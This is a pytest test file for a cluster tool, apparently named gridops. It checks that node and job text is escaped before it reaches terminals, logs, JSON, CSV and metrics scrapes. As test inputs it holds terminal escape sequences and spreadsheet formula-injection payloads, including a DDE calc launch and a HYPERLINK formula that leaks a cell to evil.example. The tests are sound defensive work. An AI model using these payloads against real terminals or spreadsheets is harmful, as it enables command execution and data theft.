"""What nodes and commands have to say never steers a terminal, a spreadsheet or a scrape."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import subprocess
import sys
from dataclasses import replace
from pathlib import Path

import pytest

import gridops
from gridops.errors import GridError, NotStarted
from gridops.model import Cpu, Job, Node, NodeHealth
from gridops.observe import events, exposition
from gridops.observe.log import get_logger, setup_logging, shutdown_logging
from gridops.observe.metrics import get_metrics
from gridops.observe.rows import NodeRecord, RunRow
from gridops.render import documents, history, jobs, tables
from gridops.render.live import Board
from gridops.render.units import spreadsheet_cell
from gridops.system.text import escape_json, printable, printable_lines
from gridops.tasks import _terminal
from gridops.tasks._progress import Narrator
from gridops.tasks._task import exit_status_of

# ESC and its sequences, BEL, line ends, DEL, C1 (its CSI), direction overrides, line separators,
# a tag character beyond the BMP.
EVIL = "\x1b[2J\x1b]0;owned\x07\r\n\x7f\x9b31m\u202e\u2066\u2028\U000e0001"
HALF = f"{EVIL}\ud800"  # with half a surrogate pair: not where pytest keeps a log, which it encodes


def harmless(text: str, *, lines: bool = False) -> bool:
    return all(line.isprintable() for line in (text.split("\n") if lines else [text]))


PACKAGE = Path(gridops.__file__).parent
BUSY = NodeHealth(Node("gpu01", "10.0.0.7"), "degraded", 12.3, cpu=Cpu(64, 3.1, 2.8, 2.0, 4.8))
DEAD = NodeHealth(Node("cpu1", "cpu1"), "unreachable", None)


# -- in words --------------------------------------------------------------------------------------


def test_what_cannot_be_shown_is_spelt():
    assert printable("gpu01: \x1b[31mred\n\u202e") == "gpu01: \\x1b[31mred\\n\\u202e"
    assert printable("ünï cöde 漢 …") == "ünï cöde 漢 …"
    assert harmless(printable(HALF))
    assert printable_lines("a\nb\x07") == "a\nb\\x07"


# -- on a terminal ---------------------------------------------------------------------------------


def test_a_message_is_one_harmless_line(capsys):
    _terminal.say(f"node1: {EVIL}")
    said = capsys.readouterr().err
    assert said.count("\n") == 1
    assert harmless(said.rstrip("\n"))
    assert said.startswith("gridops: node1: \\x1b[2J")


@pytest.mark.parametrize(
    "error",
    [
        GridError(f"cannot write {EVIL}", node="node1", hint=EVIL),
        NotStarted(f"taken by {EVIL}", reason="busy", holders=(EVIL,), node="node1"),
    ],
)
@pytest.mark.parametrize("debug", ["", "1"])
def test_an_error_is_said_harmlessly_also_with_its_traceback(capsys, monkeypatch, error, debug):
    monkeypatch.setenv("GRIDOPS_DEBUG", debug)

    def fail() -> int:
        raise error

    assert exit_status_of(fail) == 125
    said = capsys.readouterr().err
    assert harmless(said, lines=True)
    assert ("Traceback" in said) == bool(debug)


def test_all_that_is_told_meanwhile_is_harmless(capsys, monkeypatch):
    monkeypatch.setattr(_terminal, "ERASE", "")
    monkeypatch.setattr("gridops.tasks._progress.is_terminal", lambda stream: True)
    with events.listening(Narrator()):
        events.emit(events.CLUSTER_PROGRESS, node="node1", what=EVIL)
        events.emit(events.CLUSTER_STEP, node="node1", step="bringing", wheelhouse=EVIL)
        events.emit(events.WARNING, message=EVIL)
        events.emit(events.RUN_STARTED, node="node1", id=EVIL)
    said = capsys.readouterr().err
    assert said.count("[2J") == 4
    assert harmless(said, lines=True)


def test_what_was_asked_for_is_harmless_lines(capsys):
    _terminal.show(f"first\nsecond {EVIL}")
    assert harmless(capsys.readouterr().out, lines=True)


class Screen(io.StringIO):
    """A stream that says it is a terminal."""

    encoding = "utf-8"

    def isatty(self) -> bool:
        return True


@pytest.fixture(params=["file", "terminal"])
def screen(request, monkeypatch):
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setenv("NO_COLOR", "1")
    monkeypatch.setenv("COLUMNS", "500")
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    return Screen() if request.param == "terminal" else io.StringIO()


def seen(screen: io.StringIO) -> str:
    """What was written, less the styles (SGR) that we ourselves give to a terminal."""
    return re.sub(r"\x1b\[[\d;]*m", "", screen.getvalue())


def test_a_table_of_what_nodes_say_is_harmless(screen, monkeypatch):
    monkeypatch.setattr(sys, "stdout", screen)
    evil = replace(BUSY, node=replace(BUSY.node, name=f"n{HALF}"), ray=HALF, reasons=(HALF,))
    found = [evil, replace(DEAD, error=HALF)]
    _terminal.show_table(
        lambda: tables.align(*tables.health_columns(found)), lambda: tables.health_table(found)
    )
    run = Job(f"j{HALF}", HALF, "running", HALF, HALF, started=1.0, gpus=(HALF,))
    _terminal.show_rows(jobs.JOBS_HEADER, [jobs.row(run, 2.0)])
    row = RunRow(HALF, HALF, HALF, 1.0, 1.0, "finished", 0, HALF, HALF)
    _terminal.show_rows(history.HISTORY_HEADER, [history.row(row, 2.0)])
    _terminal.show_lines(line.pieces for line in history.durations([row], 2.0, 80, ascii=True))
    _terminal.show(jobs.lines(run, 2.0))
    text = seen(screen)
    assert text.count("[2J") > 10
    assert harmless(text, lines=True)


def test_the_live_view_is_harmless_and_as_wide_as_it_seems(screen):
    from rich.console import Console

    evil = replace(BUSY, node=replace(BUSY.node, name=f"n{EVIL}"), reasons=(EVIL,))
    board = Board([evil.node], {}, ascii=True)
    board.add(evil, 1.0)
    board.add(replace(evil, state="unreachable", error=EVIL), 2.0)
    console = Console(file=screen, width=500)
    for line in board.lines(500, 40, 3.0, EVIL):
        console.print(_terminal.draw_line(line.pieces))
    text = seen(screen)
    assert text.count("[2J") > 2
    assert harmless(text, lines=True)


# Who may write to our streams: the doors above, the log (which escapes too), and what runs on a
# node and prints JSON.
WRITERS = {
    "gridops/tasks/_terminal.py", "gridops/tasks/_task.py", "gridops/observe/log.py",
    "gridops/ray/node_ask.py", "gridops/ray/node_mesh.py",
    "gridops/tasks/_first.py",  # its own words, before there is anything else of ours
    "gridops/transfers/fabric.py",  # patchwork's interface: it prints the call that it was given
}  # fmt: skip


def test_nothing_is_printed_but_through_what_makes_it_harmless():
    written = re.compile(r"(?<![\w.])print\(|sys\.std(out|err)\.write|write\(sys\.std")
    found = {
        str(path.relative_to(PACKAGE.parent))
        for path in PACKAGE.rglob("*.py")
        if written.search(re.sub(r'""".*?"""', "", path.read_text(), flags=re.DOTALL))
    }
    assert found <= WRITERS
    assert "gridops/tasks/_terminal.py" in found


# -- in documents ----------------------------------------------------------------------------------


def test_json_is_harmless_to_a_terminal_and_exact_to_a_reader():
    document = {"error": HALF, "ünï": ["漢", "\x7f\x9b\u202e"], "tag": "\U000e0001"}
    text = documents.to_json(document)
    assert harmless(text, lines=True)
    assert json.loads(text) == document
    assert "漢" in text
    assert escape_json('"\U000e0001"') == '"\\udb40\\udc01"'


def test_the_log_is_harmless_in_both_formats(monkeypatch):
    for form in ("human", "json"):
        stream = io.StringIO()
        setup_logging("DEBUG", format=form, stream=stream)
        try:
            events.emit(events.WARNING, message=EVIL)
            get_logger("x").warning(EVIL, node=EVIL)
            try:
                raise ValueError(EVIL)
            except ValueError:
                logging.getLogger("gridops").exception("failed")
        finally:
            shutdown_logging()
        text = stream.getvalue()
        assert "[2J" in text
        assert harmless(text, lines=True)
    assert json.loads(text.splitlines()[0])["message"] == EVIL


# -- in a spreadsheet ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\\t=1"),
        ("\r=1", "'\\r=1"),
        ("\n=1", "'\n=1"),
        ("＝1+1", "'＝1+1"),
        ("-", "-"),
        ("python train.py --lr=1", "python train.py --lr=1"),
        ("first\nsecond", "first\nsecond"),
        ("\x1b[31m", "\\x1b[31m"),
        (-1.5, -1.5),
        (-2, -2),
        ("", ""),
    ],
)
def test_no_text_is_a_formula_and_numbers_stay_numbers(value, cell):
    assert spreadsheet_cell(value) == cell


def test_a_csv_of_what_was_run_and_said_has_no_formula():
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    run = RunRow(formula, "run", "node1", 1.0, -1.5, "finished", -9, f"\t{formula}", f"@{EVIL}")
    (row,) = csv.DictReader(
        io.StringIO(tables.to_csv(history.HISTORY_CSV, [history.csv_row(run)]), newline="")
    )
    assert row["id"] == f"'{formula}"
    assert row["command"] == f"'\\t{formula}"
    assert row["error"].startswith("'@\\x1b[2J")
    assert (row["status"], row["duration_s"]) == ("-9", "-1.5")
    sick = replace(DEAD, error=f"-{formula}")
    (found,) = csv.DictReader(
        io.StringIO(tables.to_csv(tables.HEALTH_CSV, [tables.health_csv_row(sick)]))
    )
    assert found["error"] == f"'-{formula}"


# -- in a scrape -----------------------------------------------------------------------------------


def test_a_label_may_hold_anything_and_promtool_has_nothing_to_say(home):
    odd = f'a"b\\c}} 1\nnext 2 \x00{HALF}'
    gpu = {"index": 0, "uuid": odd, "name": odd, "vendor": odd, "memory_total_mib": 1.0}
    record = NodeRecord(odd, 1.0, "healthy", 1.0, {"cores": 4, "gpus": [gpu]})
    metrics = get_metrics()
    metrics.record_task(odd)
    metrics.record_node(record)
    for openmetrics in (False, True):
        nodes = exposition.generate(exposition.of_nodes([record]), openmetrics=openmetrics)
        text = nodes + metrics.export_prometheus(openmetrics=openmetrics)
        assert harmless(text, lines=True)
        assert 'a\\"b\\\\c} 1\\nnext 2 \\\\x00' in text
    done = subprocess.run(
        ["promtool", "check", "metrics"], input=metrics.export_prometheus(), capture_output=True,
        text=True, timeout=60, check=False,
    )  # fmt: skip
    assert (done.returncode, done.stdout, done.stderr) == (0, "", "")
